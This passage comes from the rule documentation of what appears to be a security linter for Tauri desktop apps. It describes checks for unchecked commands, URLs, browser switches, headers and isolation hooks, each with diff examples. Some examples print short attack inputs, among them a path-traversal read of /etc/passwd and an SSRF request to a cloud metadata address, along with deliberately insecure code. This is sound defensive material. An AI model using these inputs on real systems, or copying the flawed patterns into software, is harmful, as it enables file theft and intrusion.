Pages of the app can newly read files that they name, through the command \`read_note\`:

\`\`\`
invoke("read_note", {"path":"../../../../etc/passwd"})
\`\`\`

### It says nothing where the folder is checked

\`src-tauri/src/lib.rs\`:

\`\`\`diff
 }

+const FOLDER: &str = "/home/me/Notes";
+
+#[tauri::command]
+fn read_note(name: String) -> Result<String, String> {
+    let path = PathBuf::from(FOLDER).join(name).canonicalize().map_err(|_| "no such note")?;
+    if !path.starts_with(FOLDER) {
+        return Err("outside of the notes".into());
+    }
+    fs::read_to_string(path).map_err(|error| error.to_string())
+}
+
 pub fn run() {
     tauri::Builder::default()
-        .invoke_handler(tauri::generate_handler![greet])
+        .invoke_handler(tauri::generate_handler![greet, read_note])
         .run(tauri::generate_context!())
         .unwrap();
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: calling Rust from the frontend](https://v2.tauri.app/develop/calling-rust/)
- [OWASP: path traversal](https://owasp.org/www-community/attacks/Path_Traversal)
- [CWE-22: improper limitation of a pathname](https://cwe.mitre.org/data/definitions/22.html)
`,"commands/unchecked-program":`# A command runs what a page names: \`commands/unchecked-program\`

Severity: high; medium for the text of a query; one step more where sites may call the command; info where no page may; at most low for an app that is new.

Since: 0.1.0

A command of the app takes a text from the page and runs it: as a program, a library, an argument of a shell or of a program that opens files, as script in a wi\
ndow, or as the text of a query. Nothing on the way looks at it.

## Why it matters

Whoever gets a script into the page decides what runs on the machine, as the person who uses the app.

## What to do

Let the page choose from a closed list: \`match tool.as_str() { "git" => \u2026, _ => return Err(\u2026) }\`. Keep scripts and queries in Rust and hand values over as param\
eters; write values into a script with \`serde_json::to_string\`.

## When it says nothing

- The page chooses from a closed list, or the text is compared or matched with a pattern.
- The program is the code's own and is no shell: \`Command::new("git").arg(name)\`.
- A value goes into a script as JSON text.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a command that runs any program

\`src-tauri/src/lib.rs\`:

\`\`\`diff
 }

+#[tauri::command]
+fn run_any(cmd: String, args: Vec<String>) -> Result<(), String> {
+    Command::new(cmd).args(args).spawn().map(|_| ()).map_err(|error| error.to_string())
+}
+
 pub fn run() {
     tauri::Builder::default()
-        .invoke_handler(tauri::generate_handler![greet])
+        .invoke_handler(tauri::generate_handler![greet, run_any])
         .run(tauri::generate_context!())
         .unwrap();
\`\`\`

Pages of the app can newly run or open what they name, through the command \`run_any\`:

\`\`\`
invoke("run_any", {"cmd":"/usr/bin/env","args":[]})
\`\`\`

### It says nothing of an argument of a program that is no shell

\`src-tauri/src/lib.rs\`:

\`\`\`diff
 }

+#[tauri::command]
+fn build(target: String) -> Result<(), String> {
+    Command::new("make").arg(target).spawn().map(|_| ()).map_err(|error| error.to_string())
+}
+
 pub fn run() {
     tauri::Builder::default()
-        .invoke_handler(tauri::generate_handler![greet])
+        .invoke_handler(tauri::generate_handler![greet, build])
         .run(tauri::generate_context!())
         .unwrap();
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: calling Rust from the frontend](https://v2.tauri.app/develop/calling-rust/)
- [OWASP: command injection](https://owasp.org/www-community/attacks/Command_Injection)
- [CWE-78: OS command injection](https://cwe.mitre.org/data/definitions/78.html)
`,"commands/unchecked-url":`# A command uses an address that a page names: \`commands/unchecked-url\`

Severity: medium; high where the address is one of the updater; one step more where sites may call the command; info where no page may; at most low for an app t\
hat is new.

Since: 0.1.0

A command of the app takes a text from the page and sends a request to it, shows it in a window, or asks it for updates. Nothing on the way compares its scheme \
or its host.

## Why it matters

The page's own requests are held by its Content Security Policy and by the rules of browsers. A request from Rust is held by neither: it reaches a router, a ser\
vice on \`localhost\` and a cloud's metadata, and its answer comes back to the page.

## What to do

Parse the address (\`Url::parse\`) and compare \`scheme()\` and \`host_str()\` with the ones that the command is for. Better, let the page hand over an identifier and\
 build the address in Rust.

## When it says nothing

- The scheme or the host is compared, or the address begins with a server that the code names: \`format!("https://api.example.com/{id}")\`.
- The page chooses what is sent, and not where.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a request to any server

\`src-tauri/src/lib.rs\`:

\`\`\`diff
 }

+#[tauri::command]
+async fn load_feed(url: String) -> Result<String, String> {
+    let answer = reqwest::get(&url).await.map_err(|error| error.to_string())?;
+    answer.text().await.map_err(|error| error.to_string())
+}
+
 pub fn run() {
     tauri::Builder::default()
-        .invoke_handler(tauri::generate_handler![greet])
+        .invoke_handler(tauri::generate_handler![greet, load_feed])
         .run(tauri::generate_context!())
         .unwrap();
\`\`\`

Pages of the app can newly send requests to servers that they name, through the command \`load_feed\`:

\`\`\`
invoke("load_feed", {"url":"http://169.254.169.254/latest/meta-data/"})
\`\`\`

### It says nothing where the host is compared

\`src-tauri/src/lib.rs\`:

\`\`\`diff
 }

+#[tauri::command]
+async fn load_feed(url: String) -> Result<String, String> {
+    let address = tauri::Url::parse(&url).map_err(|error| error.to_string())?;
+    if address.host_str() != Some("feeds.example.com") {
+        return Err("another host".into());
+    }
+    reqwest::get(address).await.map_err(|error| error.to_string())?.text().await.map_err(|error| error.to_string())
+}
+
 pub fn run() {
     tauri::Builder::default()
-        .invoke_handler(tauri::generate_handler![greet])
+        .invoke_handler(tauri::generate_handler![greet, load_feed])
         .run(tauri::generate_context!())
         .unwrap();
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: calling Rust from the frontend](https://v2.tauri.app/develop/calling-rust/)
- [OWASP: server-side request forgery](https://owasp.org/www-community/attacks/Server_Side_Request_Forgery)
- [CWE-918: server-side request forgery](https://cwe.mitre.org/data/definitions/918.html)
`,"config/browser-extensions-allowed":`# Browser extensions may run in the app: \`config/browser-extensions-allowed\`

Severity: medium; low for an app that is new.

Since: 0.1.0

\`browserExtensionsEnabled\` was turned on for a window. Only Windows has it.

## Why it matters

An extension in the profile of the webview runs its scripts in the app's pages. The app's Content Security Policy doesn't stop them, and what they call is calle\
d by the page.

## What to do

Keep it off. If one page needs an extension, give that page a window of its own without capabilities.

## When it says nothing

- The setting is \`false\` in so many words, which is the default.
- The window has it on before and after, in another layer of the configuration.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags extensions

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     "windows": [
       {
-        "label": "main"
+        "label": "main",
+        "browserExtensionsEnabled": true
       }
     ]
\`\`\`

Browser extensions can newly run in the pages of window \`main\` on Windows:

\`\`\`
chrome.scripting.executeScript({ target: { tabId }, func: () => \u2026 })
\`\`\`

### It says nothing when the default is written out

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     "windows": [
       {
-        "label": "main"
+        "label": "main",
+        "browserExtensionsEnabled": false
       }
     ]
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
- [MDN: content scripts of extensions](https://developer.mozilla.org/en-US/docs/Mozilla/Add-ons/WebExtensions/Content_scripts)
- [WebView2: secure apps](https://learn.microsoft.com/en-us/microsoft-edge/webview2/concepts/security)
`,"config/browser-switch-added":`# The browser runs with another switch: \`config/browser-switch-added\`

Severity: critical for switches that take away the web's own protection or open a debugging port; high for isolation, extensions, proxies and name resolution; l\
ow for others and for an app that is new.

Since: 0.1.0

\`additionalBrowserArgs\` of a window has a switch that no window had before. Every switch is named for itself, and so is every entry of a list of features. Only \
Windows has them.

## Why it matters

\`--remote-debugging-port\` lets any program of the machine drive the app's pages, with all that they may call. \`--disable-web-security\` and \`--ignore-certificate\
-errors\` let other sites in. The setting also replaces what Tauri passes by itself.

## What to do

Keep switches for development out of the configuration that is shipped. Rendering switches are harmless.

## When it says nothing

- The switch is written differently (\`/disable-gpu\`, \`--Disable-GPU\`), or another window had it.
- The features that the webview turns off by default are written out.
- The debugging port has another number.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a debugging port

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     "windows": [
       {
-        "label": "main"
+        "label": "main",
+        "additionalBrowserArgs": "--remote-debugging-port=9222 --disable-gpu"
       }
     ]
\`\`\`

The browser in the app can newly run with \`--remote-debugging-port\` on Windows:

\`\`\`
msedgewebview2.exe --remote-debugging-port
\`\`\`

### It says nothing of another port

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
       {
         "label": "main",
-        "additionalBrowserArgs": "--remote-debugging-port=9222"
+        "additionalBrowserArgs": "--remote-debugging-port=9333"
       }
     ]
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
- [WebView2: browser flags](https://learn.microsoft.com/en-us/microsoft-edge/webview2/concepts/webview-features-flags)
- [Chrome DevTools Protocol](https://chromedevtools.github.io/devtools-protocol/)
`,"config/cargo-feature-added":`# A Cargo feature opens something: \`config/cargo-feature-added\`

Severity: high for \`dangerous-settings\` of the http plugin; medium for its \`unsafe-headers\` and for \`webview-data-url\`; low for \`unstable\` and \`cookies\`; info f\
or \`watch\` of the fs plugin; at most low for an app that is new.

Since: 0.1.0

A feature of \`tauri\` or of an official plugin is newly on: in a dependency table of the app's Cargo.toml or of a crate of the repository that it is built with (\
what the workspace hands on included), through features of these crates, through \`build.features\` of the configuration, or on the command line of a build.

## Why it matters

\`dangerous-settings\` lets a page accept any certificate. \`unsafe-headers\` lets it send \`Origin\` and \`Cookie\` as it likes. \`webview-data-url\` lets windows show p\
ages that are only a URL. \`unstable\` lets code put several webviews into a window, which then share what is granted to the window.

## What to do

Ask for the feature only where it is used. For development, make a feature of the app's own that turns it on, and leave that out of \`default\`.

## When it says nothing

- The feature moves between Cargo.toml, the workspace and the app's own features.
- It is one that the configuration asks for, such as \`protocol-asset\`, \`isolation\` and \`macos-private-api\`: what the setting opens is said instead.
- \`window-data-url\` of Tauri 1 becomes \`webview-data-url\`.
- A crate from elsewhere turns the feature on: its manifest isn't in the repository.
- A crate that only runs while the app is built asks for it, where the resolver of the workspace keeps these apart.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags features of plugins

\`src-tauri/Cargo.toml\`:

\`\`\`diff

 [dependencies]
-tauri = "2"
-tauri-plugin-http = "2"
-tauri-plugin-fs = "2"
+tauri = { version = "2", features = ["protocol-asset", "tray-icon"] }
+tauri-plugin-http = { version = "2", features = ["dangerous-settings", "unsafe-headers"] }
+tauri-plugin-fs = { version = "2", features = ["watch"] }
\`\`\`

Pages with permissions of the http plugin can newly send requests that accept any certificate:

\`\`\`
fetch('https://example.com', { danger: { acceptInvalidCerts: true } })
\`\`\`

### It says nothing of a feature that is off by default

\`src-tauri/Cargo.toml\`:

\`\`\`diff
 tauri-plugin-http = "2"
 tauri-plugin-fs = "2"
+[features]
+default = []
+extra = ["tauri/unstable"]
\`\`\`

<!-- end examples -->

## References

- [Cargo: features](https://doc.rust-lang.org/cargo/reference/features.html)
- [docs.rs: features of \`tauri\`](https://docs.rs/crate/tauri/latest/features)
- [Tauri 2: the http plugin](https://v2.tauri.app/plugin/http-client/)
`,"config/database-opened":`# The app opens another database: \`config/database-opened\`

Severity: high for an address with a password; medium for a server; low for a file; low for an app that is new.

Since: 0.1.0

\`plugins.sql.preload\` has an address that it had not.

## Why it matters

The address is in every copy of the app, with the password in it.

## What to do

Let people enter passwords, and let a server of yours speak to the database.

## When it says nothing

- The address is no longer there.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a password

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "plugins": {
     "sql": {
-      "preload": []
+      "preload": [
+        "mysql://notes:secret@db.example.com/notes"
+      ]
     }
   }
\`\`\`

The app can newly open the database \`mysql://notes:\u2026@db.example.com/notes\`, with a password that every copy of the app holds:

\`\`\`
Database.load("mysql://notes:\u2026@db.example.com/notes")
\`\`\`

### It says nothing when the order changes

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     "sql": {
       "preload": [
-        "sqlite:a.db",
-        "sqlite:b.db"
+        "sqlite:b.db",
+        "sqlite:a.db"
       ]
     }
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
- [Tauri 1: the configuration](https://v1.tauri.app/v1/api/config)
`,"config/dev-server-remote":`# Developers run pages of another machine: \`config/dev-server-remote\`

Severity: medium; low for an app that is new.

Since: 0.1.0

\`build.devUrl\` (in Tauri 1: \`build.devPath\`) has the address of another machine.

## Why it matters

While an app is developed, pages of that address are the app, without a Content Security Policy. Whoever serves them, or is on the way, runs what they like on t\
he machines of developers.

## What to do

Serve the pages on the same machine.

## When it says nothing

- The port on the same machine changes.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a server in the network

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "identifier": "org.example.notes",
   "build": {
-    "devUrl": "http://localhost:1420"
+    "devUrl": "http://192.168.1.10:1420"
   }
 }
\`\`\`

Pages of \`http://192.168.1.10:1420\` can newly act as the app on the machines of developers, with everything that is granted to its pages:

\`\`\`
tauri dev # GET http://192.168.1.10:1420/
\`\`\`

### It says nothing about another port

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "identifier": "org.example.notes",
   "build": {
-    "devUrl": "http://localhost:1420"
+    "devUrl": "http://localhost:5173"
   }
 }
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
- [Tauri 1: the configuration](https://v1.tauri.app/v1/api/config)
`,"config/devtools-in-release":`# The inspector is in releases: \`config/devtools-in-release\`

Severity: medium; low for an app that is new.

Since: 0.1.0

The feature \`devtools\` of the crate \`tauri\` (or of \`tauri-runtime-wry\`, which makes the windows) was turned on, releases are built with debug assertions, or a w\
indow that had refused the inspector (\`devtools: false\`) no longer does.

Debug assertions come from the profile that a release is built with (\`[profile.release]\` of the workspace's root, for all crates, for \`*\`, \`tauri-runtime-wry\` o\
r \`wry\` alone), from cargo's settings (\`.cargo/config.toml\`, which win over the manifest), or from a flag for the compiler (\`-C debug-assertions\`). With those o\
f \`wry\` alone no window can refuse the inspector.

## Why it matters

Development builds have the inspector in any case. With the feature or with debug assertions a release has it too, and its console calls commands as the page do\
es. With debug assertions all other code behind \`debug_assertions\` runs as well: the updater then takes endpoints without https.

## What to do

Turn the feature on in a development build alone, by a feature of the app's own that is off by default. Leave \`debug-assertions\` to \`[profile.dev]\`.

## When it says nothing

- A window sets \`devtools: true\` and the feature is off: then releases have no inspector.
- \`devtools: true\` is written out where the feature is on.
- A window is added where windows could be inspected before.
- Debug assertions of a profile that releases aren't built with, of build scripts alone (\`build-override\`), or in a manifest that isn't the root of its workspac\
e.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags the feature

\`src-tauri/Cargo.toml\`:

\`\`\`diff

 [dependencies]
-tauri = "2"
+tauri = { version = "2", features = ["devtools"] }
\`\`\`

Whoever sits at the machine can newly open the inspector in a release of the app:

\`\`\`
document.title = 'from the console'
\`\`\`

### It says nothing of a window without the feature

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
       {
         "label": "main",
-        "devtools": false
+        "devtools": true
       }
     ]
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: debugging](https://v2.tauri.app/develop/debug/)
- [Cargo: profiles](https://doc.rust-lang.org/cargo/reference/profiles.html)
- [docs.rs: features of \`tauri\`](https://docs.rs/crate/tauri/latest/features)
`,"config/dropped-files-in-scope":`# Dropped files join the scope: \`config/dropped-files-in-scope\`

Severity: low.

Since: 0.1.0

\`plugins.fs.scopeDroppedPaths\` was \`false\` and no longer is, or the plugin went to a version before 2.7 that doesn't know it.

## Why it matters

A file or folder that a person drops on any window joins the scope of the fs plugin for all windows, until the app ends.

## What to do

Keep the setting at \`false\` if the app doesn't need to open what is dropped.

## When it says nothing

- The plugin is new: by default it takes in what is dropped, and its arrival is reported by itself.
- \`true\` is written out, which is the default.
- The app moves from Tauri 1, which always takes in what is dropped.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a guard that is turned off

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "plugins": {
     "fs": {
-      "scopeDroppedPaths": false
+      "scopeDroppedPaths": true
     }
   }
\`\`\`

Every page with permissions of the fs plugin can newly reach files and whole folders that a person drops on any window:

\`\`\`
readDir('/home/user/dropped')
\`\`\`

### It says nothing when the default is written out

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
 {
   "productName": "notes",
-  "identifier": "org.example.notes"
+  "identifier": "org.example.notes",
+  "plugins": {
+    "fs": {
+      "scopeDroppedPaths": true
+    }
+  }
 }
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the fs plugin](https://v2.tauri.app/plugin/file-system/)
- [Tauri 2: command scopes](https://v2.tauri.app/security/scope/)
- [RUSTSEC-2022-0091: dropped files let more through than themselves](https://rustsec.org/advisories/RUSTSEC-2022-0091.html)
`,"config/engine-not-bundled":`# The browser engine is loaded from elsewhere: \`config/engine-not-bundled\`

Severity: high; low for an app that is new.

Since: 0.1.0

\`bundle.cef.embed\` was set to \`false\` in an app on Tauri's Chromium runtime.

## Why it matters

The app then loads the engine from a path that its environment names. That library sees every page and calls every command.

## What to do

Leave the setting away: by default the engine is in the bundle.

## When it says nothing

- \`true\` is written out, which is the default.
- The setting moves to another layer of the configuration.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags an engine outside of the bundle

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "bundle": {
     "cef": {
-      "embed": true
+      "embed": false
     }
   }
\`\`\`

Whoever sets the app's environment or writes the library that it names can newly replace the browser engine that the app loads:

\`\`\`
TAURI_CEF_LIBRARY_PATH=/tmp/libcef.so notes
\`\`\`

### It says nothing when the default is written out

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
 {
   "productName": "notes",
-  "identifier": "org.example.notes"
+  "identifier": "org.example.notes",
+  "bundle": {
+    "cef": {
+      "embed": true
+    }
+  }
 }
\`\`\`

<!-- end examples -->

## References

- [Chromium Embedded Framework](https://github.com/chromiumembedded/cef)
- [Tauri 2: versions of webviews](https://v2.tauri.app/reference/webview-versions/)
- [CWE-426: untrusted search path](https://cwe.mitre.org/data/definitions/426.html)
`,"config/engine-replaced":`# The app brings its own browser engine: \`config/engine-replaced\`

Severity: medium; low for an app that is new.

Since: 0.1.0

The crate \`tauri-runtime-cef\` joined the app: in its Cargo.toml, or in what the lockfile says its crates depend on.

## Why it matters

Without it the system's webview shows the pages, and the system's updates patch it. A Chromium of the app's own is as old as the app's last release.

## What to do

Decide on it as on a dependency that needs an update every few weeks.

## When it says nothing

- The crate changes its version.
- It moves between Cargo.toml and the workspace's.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags the runtime that a feature brings

\`src-tauri/Cargo.lock\`:

\`\`\`diff
 source = "registry+https://github.com/rust-lang/crates.io-index"
 checksum = "0000000000000000000000000000000000000000000000000000000000000000"
+dependencies = [
+ "tauri-runtime-cef",
+]

 [[package]]
@@
  "tauri",
 ]
+
+[[package]]
+name = "tauri-runtime-cef"
+version = "0.1.0-alpha.5"
+source = "registry+https://github.com/rust-lang/crates.io-index"
+checksum = "0000000000000000000000000000000000000000000000000000000000000000"
\`\`\`

\`src-tauri/Cargo.toml\`:

\`\`\`diff

 [dependencies]
-tauri = "3.0.0-alpha.5"
+tauri = { version = "3.0.0-alpha.5", features = ["cef"] }
\`\`\`

A Chromium that is part of the app can newly show the app's pages, in place of the system's webview:

\`\`\`
cargo tree --invert cef-dll-sys
\`\`\`

### It says nothing of another version

\`src-tauri/Cargo.lock\`:

\`\`\`diff
 [[package]]
 name = "tauri-runtime-cef"
-version = "0.1.0-alpha.5"
+version = "0.1.0-alpha.6"
 source = "registry+https://github.com/rust-lang/crates.io-index"
 checksum = "0000000000000000000000000000000000000000000000000000000000000000"
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: versions of webviews](https://v2.tauri.app/reference/webview-versions/)
- [Chromium Embedded Framework](https://github.com/chromiumembedded/cef)
- [Tauri 2: architecture](https://v2.tauri.app/concept/architecture/)
`,"config/file-type-claimed":`# Files that others send open the app: \`config/file-type-claimed\`

Severity: high for pages, programs, mail and any file; medium for other types; low where the app is only the first to open them; low for an app that is new.

Since: 0.1.0

\`bundle.fileAssociations\` has an ending or a type that it had not, or other apps of the device may hand it over in another way.

## Why it matters

A person opens a file that somebody sent, and the app reads it. What reads the file decides whether that is safe.

## What to do

Claim only the app's own type, and read such files as what they are: from anyone.

## When it says nothing

- The same type is described differently.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags pages

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
       {
         "ext": [
-          "note"
+          "note",
+          "html"
         ]
       }
\`\`\`

Whoever sends a person a file can newly have the app opened with a file of the type \`html\`:

\`\`\`
open file.html
\`\`\`

### It says nothing when the type is described

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
       {
         "ext": [
-          "note"
-        ]
+          ".note"
+        ],
+        "description": "A note"
       }
     ]
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
- [Tauri 1: the configuration](https://v1.tauri.app/v1/api/config)
`,"config/foreign-script":`# A page runs a script of a website: \`config/foreign-script\`

Severity: critical over \`http:\`; high; medium for a server on the same machine; low where the page names the hash.

Since: 0.1.0

A front page of the app holds a \`<script>\` whose \`src\` is an address of a site from which it took none before.

## Why it matters

Tauri puts a nonce on each script whose \`src\` begins with \`http\`, so it runs whatever the app's policy says. It runs as the app: with all that is granted to its\
 own pages. Whoever answers for the site decides what it does, for each person and each start anew.

## What to do

Ship the script with the app, or name its hash in \`integrity\`.

## When it says nothing

- The page took a script from that site before.
- It names the hash of a script, and took any script from that site before.
- The frontend is a site: then all its scripts are that site's own.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a script of a site

\`index.html\`:

\`\`\`diff
   <head>
     <title>Notes</title>
+    <script src="https://cdn.example/a.js"></script>
     <script type="module" src="/src/main.ts"></script>
   </head>
\`\`\`

Scripts of \`https://cdn.example\` can newly run in the app's own pages, with what is granted to them:

\`\`\`
<script src="https://cdn.example/a.js"></script>
\`\`\`

### It says nothing of a script of the app

\`index.html\`:

\`\`\`diff
   <head>
     <title>Notes</title>
+    <script src="/https/a.js"></script>
     <script type="module" src="/src/main.ts"></script>
   </head>
\`\`\`

<!-- end examples -->

## References

- [W3C: Subresource Integrity](https://www.w3.org/TR/SRI/)
- [Tauri 2: Content Security Policy](https://v2.tauri.app/security/csp/)
- [CVE-2023-31134: a website in a window reached the API of Tauri](https://github.com/advisories/GHSA-4wm2-cwcf-wwvp)
`,"config/frontend-replaced":`# The app shows other pages: \`config/frontend-replaced\`

Severity: medium where the repository holds the folder; info where the build makes it; low for an app that is new.

Since: 0.1.0

Another folder or file is the frontend, and what the repository holds there is different.

## Why it matters

Whatever lies in that folder is the app, with everything that is granted to its pages. Nobody who reads the old folder sees it.

## What to do

Let the build make the folder, or say in the pull request what the new pages are.

## When it says nothing

- The folder moved, and its files are the same.
- Files in the folder change, and its name stays.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a committed folder

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "identifier": "org.example.notes",
   "build": {
-    "frontendDist": "../dist"
+    "frontendDist": "../prebuilt"
   }
 }
\`\`\`

The app can newly show the pages in \`../prebuilt\`, which this repository holds:

\`\`\`
../prebuilt/index.html
\`\`\`

### It says nothing when the same pages lie elsewhere

\`pages/index.html\`:

\`\`\`diff
-<!doctype html>
-<title>Notes</title>
\`\`\`

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "identifier": "org.example.notes",
   "build": {
-    "frontendDist": "../pages"
+    "frontendDist": "../web"
   }
 }
\`\`\`

\`web/index.html\`:

\`\`\`diff
+<!doctype html>
+<title>Notes</title>
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
- [Tauri 1: the configuration](https://v1.tauri.app/v1/api/config)
`,"config/global-api-exposed":`# Tauri's API is under a global name: \`config/global-api-exposed\`

Severity: low.

Since: 0.1.0

\`app.withGlobalTauri\` (in Tauri 1: \`build.withGlobalTauri\`) was turned on: every page of the app finds Tauri's API, and that of every plugin, under \`window.__TA\
URI__\`.

## Why it matters

It grants nothing that capabilities don't. But a script that someone else got into a page, or one that the app loads from another site, can then call what the p\
age may call in one line.

## What to do

With a bundler, import \`@tauri-apps/api\` instead and leave the setting off. Without one, keep it, and see that the Content Security Policy lets no foreign scrip\
t in.

## When it says nothing

- It was on before, in another place or for another platform that this one now joins by the same file.
- The app moves from Tauri 1 to 2 with the setting on.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a setting that is turned on

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
 {
   "identifier": "com.example.notes",
-  "app": {}
+  "app": { "withGlobalTauri": true }
 }
\`\`\`

Any script in the app's pages can newly call Tauri's API through \`window.__TAURI__\`:

\`\`\`
window.__TAURI__.core.invoke('\u2026')
\`\`\`

### It says nothing when a key is spelt in kebab-case

\`src-tauri/Tauri.toml\`:

\`\`\`diff

 [app]
-withGlobalTauri = true
+with-global-tauri = true
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
- [Tauri 2: calling Rust from the frontend](https://v2.tauri.app/develop/calling-rust/)
- [Tauri 1: the configuration](https://v1.tauri.app/v1/api/config)
`,"config/header-weakened":`# A header of the app's pages is weaker: \`config/header-weakened\`

Severity: medium where frames may be handed the camera, the microphone, the screen or the location; info for \`Timing-Allow-Origin\`; low for others and for an ap\
p that is new.

Since: 0.1.0

\`app.security.headers\` no longer sends a header that guards (\`Permissions-Policy\`, \`Cross-Origin-\u2026\`, \`X-Content-Type-Options\`) or sends it with a weaker value, \
or it sends one that opens more (\`Access-Control-Allow-\u2026\`, \`Timing-Allow-Origin\`, \`Service-Worker-Allowed\`).

## Why it matters

Without \`Permissions-Policy: camera=()\` a page of the app can hand the camera to a site in a frame. The other headers are defence in depth: \`Access-Control-Allo\
w-Origin\` is Tauri's own and can't be set, so the rest of them matters only for windows that show a site.

## What to do

Keep the headers that guard. For one feature, name the site that needs it: \`camera=(self "https://meet.example")\`.

## When it says nothing

- A list turns into a table or a text that says the same, or \`*\` stands where nothing did: both let every site be handed the feature.
- \`Permissions-Policy\` with tauri-utils before 2.10, which sent it under a wrong name.
- \`Access-Control-Max-Age\` and \`Tauri-Custom-Header\`, which open nothing.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a policy that went

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "app": {
     "security": {
-      "headers": {
-        "Permissions-Policy": "camera=(), microphone=()"
-      }
+      "headers": {}
     }
   }
\`\`\`

The app's pages and sites in their frames can newly use devices and features:

\`\`\`
<iframe src="https://example.com" allow="camera; microphone"></iframe>
\`\`\`

### It says nothing of a narrower header

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     "security": {
       "headers": {
-        "Access-Control-Expose-Headers": "*",
-        "Service-Worker-Allowed": "/"
+        "Access-Control-Expose-Headers": "X-Total",
+        "Service-Worker-Allowed": "/a/"
       }
     }
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: HTTP headers](https://v2.tauri.app/security/http-headers/)
- [MDN: Permissions-Policy](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Permissions-Policy)
- [MDN: Content-Security-Policy](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy)
`,"config/isolation-hook-changed":`# The isolation hook has other code: \`config/isolation-hook-changed\`

Severity: medium; low for an app that is new.

Since: 0.1.0

The page or a script of the isolation application, which \`pattern.options.dir\` names, has other code than before.

## Why it matters

The hook sees every call that a page makes, and may refuse it. If it lets more pass, a script that someone else got into a page reaches Rust.

## What to do

Read the hook, and say in the pull request which calls it now lets pass. A hook that comes from a build is reviewed where its source is.

## When it says nothing

- Only comments or layout changed.
- The folder moved, and its files are the same.
- The isolation pattern is new in the app.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a hook that hands everything on

\`isolation/hook.js\`:

\`\`\`diff
-window.__TAURI_ISOLATION_HOOK__ = (payload) => {
-  if (payload.cmd.startsWith("plugin:shell")) throw new Error("no");
-  return payload;
-};
+window.__TAURI_ISOLATION_HOOK__ = (payload) => payload;
\`\`\`

The isolation hook can newly let other messages to Rust pass: its code in \`../isolation\` is different:

\`\`\`
window.__TAURI_ISOLATION_HOOK__ = (payload) => payload
\`\`\`

### It says nothing when only comments and layout change

\`isolation/hook.js\`:

\`\`\`diff
-window.__TAURI_ISOLATION_HOOK__ = (payload) => payload;
+// Hands every message on.
+window.__TAURI_ISOLATION_HOOK__ =
+  (payload) => payload;
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
- [Tauri 1: the configuration](https://v1.tauri.app/v1/api/config)
`,"config/isolation-removed":`# Messages to Rust no longer pass the isolation hook: \`config/isolation-removed\`

Severity: high.

Since: 0.1.0

\`app.security.pattern.use\` (in Tauri 1: \`tauri.pattern.use\`) was \`isolation\` and no longer is.

## Why it matters

With the isolation pattern each message to Rust is encrypted by a frame that runs the app's own hook, and the hook can refuse it. Without, whatever runs in a pa\
ge can send any message; capabilities still decide what it may call.

## What to do

Leave the pattern as it is, or move what the hook refuses into scopes and into the commands themselves.

## When it says nothing

- The hook's folder or its scripts change. Toril doesn't read what the hook does: look at them as at any guard.
- The app is new: it starts without the pattern, as Tauri does.
- \`brownfield\`, the default, is written out.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags the pattern that went

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "identifier": "org.example.notes",
   "app": {
